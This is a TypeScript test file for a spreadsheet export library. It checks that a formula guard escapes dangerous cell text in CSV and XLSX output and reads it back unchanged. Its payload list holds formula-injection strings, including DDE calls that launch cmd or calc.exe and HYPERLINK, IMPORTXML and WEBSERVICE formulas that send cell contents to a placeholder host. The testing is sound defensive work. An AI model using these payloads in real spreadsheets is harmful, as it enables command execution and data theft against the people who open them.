import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { openCsv } from './csv.ts'
import { guardFormula, unguardFormula } from './formulas.ts'
import { fromBytes } from './source.ts'
import { cellsOf } from './testing.ts'
import { collect, writeCsv } from './write-csv.ts'
import { writeXlsx } from './write-xlsx.ts'
import { openXlsx } from './xlsx.ts'

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '=IMPORTXML("http://x.example","//a")',
  '=WEBSERVICE("http://x.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=DDE('cmd','/C calc','!A0')",
  "=2+5+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=SUM(1,1)*cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+A1',
  '+HYPERLINK("http://x.example")',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-A1',
  '-SUM(A1:A9)',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\t+1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  "'+1",
  "'@x",
  "'-5",
  '=',
  '-',
  '--5',
  '+',
  '@',
  '="a"";b"',
  '=1+1;=2+2',
]

test.each(payloads)('%j is not run, and reads back as it was', async (payload) => {
  const guarded = guardFormula(payload)
  expect(guarded).toMatch(/^'/)
  expect(unguardFormula(guarded)).toBe(payload)
})

test('a sheet of such texts reads back whole from CSV and from XLSX, with no formula in either', async () => {
  const rows = payloads.map((payload) => [payload, 'after'])
  const csv = await collect(writeCsv(['Text', 'Next'], [rows]))
  expect(await cellsOf(await openCsv(fromBytes('x.csv', csv)))).toEqual(rows)
  const xlsx = await writeXlsx('Texts', ['Text', 'Next'], rows)
  expect(Buffer.from(unzipSync(xlsx)['xl/worksheets/sheet1.xml'] ?? []).toString()).not.toContain('<f')
  const read = await cellsOf(await openXlsx(fromBytes('x.xlsx', xlsx)))
  expect(read.map(([text]) => text)).toEqual(payloads)
})

test.each(['-5', '-5.25', '+3', '12', '-0,5', '-12%', '1e5'])('the number %s stays a number', (number) => {
  expect(guardFormula(number)).toBe(number)
})

test.each(["O'Brien", "'tis", 'a=b', 'x-y', 'm@il', "'", ''])(
  'the ordinary text %j is left alone',
  (text) => {
    expect(guardFormula(text)).toBe(text)
    expect(unguardFormula(text)).toBe(text)
  },
)

test('numbers, words and nothing survive a workbook', async () => {
  const xlsx = await writeXlsx(
    'Marks: 9/KLM',
    ['Name', 'Mark', 'Present'],
    [
      ['Ana', -5, true],
      ['Ben', 0.1 + 0.2, null],
    ],
  )
  expect(await cellsOf(await openXlsx(fromBytes('x.xlsx', xlsx)))).toEqual([
    ['Ana', '-5', 'true'],
    ['Ben', '0.3', ''],
  ])
})

test('a workbook of more rows than are handed over at once is read to its end', async () => {
  const rows = Array.from({ length: 4_500 }, (_, at) => [`Pupil ${at}`, at])
  const table = await openXlsx(fromBytes('x.xlsx', await writeXlsx('Results', ['Name', 'Mark'], rows)))
  const read = await cellsOf(table)
  expect(read).toHaveLength(4_500)
  expect(read.at(-1)).toEqual(['Pupil 4499', '4499'])
})

test('notes stand above the head of a workbook as text, and are never run', async () => {
  const notes = ['School B: What moved', '=HYPERLINK("https://example.org")']
  const xlsx = await writeXlsx('What moved', ['Name', 'Grades'], [['=1+1', -2]], notes)
  const parts = Object.entries(unzipSync(xlsx)).map(([name, bytes]) => [name, strFromU8(bytes)] as const)
  const cells = parts.filter(([name]) => /worksheets|sharedStrings/.test(name)).map(([, text]) => text)
  expect(cells.join()).toContain('School B: What moved')
  expect(cells.join()).toContain('=HYPERLINK(')
  expect(cells.join()).not.toMatch(/<f[ >]/)
  // Whoever brings the file in again finds its head below the notes.
  const table = await openXlsx(fromBytes('x.xlsx', xlsx))
  expect(table.columns).toEqual(['Name', 'Grades'])
  expect(await cellsOf(table)).toEqual([['=1+1', '-2']])
})
